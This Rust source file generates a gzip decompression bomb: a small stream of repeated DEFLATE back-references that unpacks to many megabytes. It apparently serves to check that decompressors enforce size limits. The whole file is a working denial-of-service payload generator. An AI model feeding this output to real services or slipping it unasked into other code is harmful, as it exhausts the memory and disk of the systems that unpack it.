//! A gzip bomb made at run time: a few kilobytes that unpack to many megabytes.

/// A gzip stream that unpacks to at least `length` bytes of `a`; its checksum is left out, as nobody reads so far.
pub fn gzip_bomb(length: usize) -> Vec<u8> {
    let mut bits = Bits {
        bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255],
        filled: 8,
    };
    // RFC 1951: the last block (1), with fixed codes (01), and the literal `a` (0x30 + 0x61).
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    bits.code(0x30 + 0x61, 8);
    for _ in 0..length.div_ceil(258) {
        // Length 258 is symbol 285, whose fixed code is 11000101; distance 1 is five zero bits.
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
    }
    bits.code(0, 7);
    bits.bytes
}

/// Bits packed from the lowest of each byte.
struct Bits {
    bytes: Vec<u8>,
    filled: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for index in 0..count {
            if self.filled == 8 {
                self.bytes.push(0);
                self.filled = 0;
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> index & 1 == 1) << self.filled;
            }
            self.filled += 1;
        }
    }

    /// Huffman codes are packed from their highest bit.
    fn code(&mut self, code: u32, count: u32) {
        for index in (0..count).rev() {
            self.push(code >> index & 1, 1);
        }
    }
}
